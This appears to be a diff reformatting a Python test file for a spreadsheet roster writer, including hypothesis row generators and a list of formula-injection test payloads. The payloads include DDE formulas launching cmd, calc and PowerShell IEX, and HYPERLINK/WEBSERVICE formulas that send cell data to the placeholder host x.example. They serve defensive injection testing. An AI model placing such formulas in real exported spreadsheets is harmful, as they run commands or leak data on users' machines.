@@ -24,9 +24,19 @@ from shibaiqian.base.spreadsheets.writing import SLICE, write_roster
 NOTE = Column("note", "备注")
 WRITTEN = (*COLUMNS, NOTE)
 ROW: dict[str, Any] = {
-    "name": "张三", "id_number": ID, "sex": "male", "born": dt.date(1949, 12, 31), "since": dt.date(1970, 5, 1), "size": 4, "land": 3.5,
-    "wage": 123456, "poor": True, "causes": "ill|disabled", "code": "0011", "note": None,
-}  # fmt: skip
+    "name": "张三",
+    "id_number": ID,
+    "sex": "male",
+    "born": dt.date(1949, 12, 31),
+    "since": dt.date(1970, 5, 1),
+    "size": 4,
+    "land": 3.5,
+    "wage": 123456,
+    "poor": True,
+    "causes": "ill|disabled",
+    "code": "0011",
+    "note": None,
+}
 NAMES = [column.name for column in WRITTEN]
 STARTS = [
     "=",
@@ -51,9 +61,18 @@ STARTS = [
     "%0A=",
 ]
 BODIES = [
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"点")', "SUM(A1:A9)*cmd|' /C calc'!A0", 'WEBSERVICE("http://x.example")',
-    'DDE("cmd";"/C calc";"a")', "A1", "IMPORTXML(A1,B1)", "2+5+cmd|' /C powershell IEX'!A0", "MSEXCEL|'\\..\\..\\cmd.exe'!''", "_x0041_<&>\"'",
-]  # fmt: skip
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://x.example/?"&A1,"点")',
+    "SUM(A1:A9)*cmd|' /C calc'!A0",
+    'WEBSERVICE("http://x.example")',
+    'DDE("cmd";"/C calc";"a")',
+    "A1",
+    "IMPORTXML(A1,B1)",
+    "2+5+cmd|' /C powershell IEX'!A0",
+    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
+    "_x0041_<&>\"'",
+]
 PAYLOADS = ["".join(pair) for pair in itertools.product(STARTS, BODIES)]
 
 
@@ -146,15 +165,27 @@ ids = st.builds(
 )
 rows = st.fixed_dictionaries(
     {
-        "name": texts.filter(bool), "id_number": ids, "sex": st.sampled_from(["male", "female", None]), "born": dates | st.none(),
-        "since": dates.map(lambda date: date.replace(day=1)) | st.none(), "size": st.integers(-(10**12), 10**12) | st.none(),
+        "name": texts.filter(bool),
+        "id_number": ids,
+        "sex": st.sampled_from(["male", "female", None]),
+        "born": dates | st.none(),
+        "since": dates.map(lambda date: date.replace(day=1)) | st.none(),
+        "size": st.integers(-(10**12), 10**12) | st.none(),
         "land": st.integers(-(10**9), 10**9).map(lambda hundredths: hundredths / 100) | st.none(),
-        "wage": st.integers(-(10**12), 10**12) | st.none(), "poor": st.booleans() | st.none(),
-        "causes": st.lists(st.sampled_from(["ill", "disabled", "school"]), min_size=1, unique=True).map("|".join) | st.none(),
-        "code": st.from_regex(CODE_PATTERN, fullmatch=True).filter(lambda code: not re.search(r"\.0+$|^\d(\.\d+)?[eE]\d+$|^NA$|^N/A$", code) and code not in ("NULL", "null", "None", "nan", "NaN", "n/a")) | st.none(),
+        "wage": st.integers(-(10**12), 10**12) | st.none(),
+        "poor": st.booleans() | st.none(),
+        "causes": st.lists(st.sampled_from(["ill", "disabled", "school"]), min_size=1, unique=True).map("|".join)
+        | st.none(),
+        "code": st.from_regex(CODE_PATTERN, fullmatch=True).filter(
+            lambda code: (
+                not re.search(r"\.0+$|^\d(\.\d+)?[eE]\d+$|^NA$|^N/A$", code)
+                and code not in ("NULL", "null", "None", "nan", "NaN", "n/a")
+            )
+        )
+        | st.none(),
         "note": texts,
     }
-)  # fmt: skip
+)
 
 
 @settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
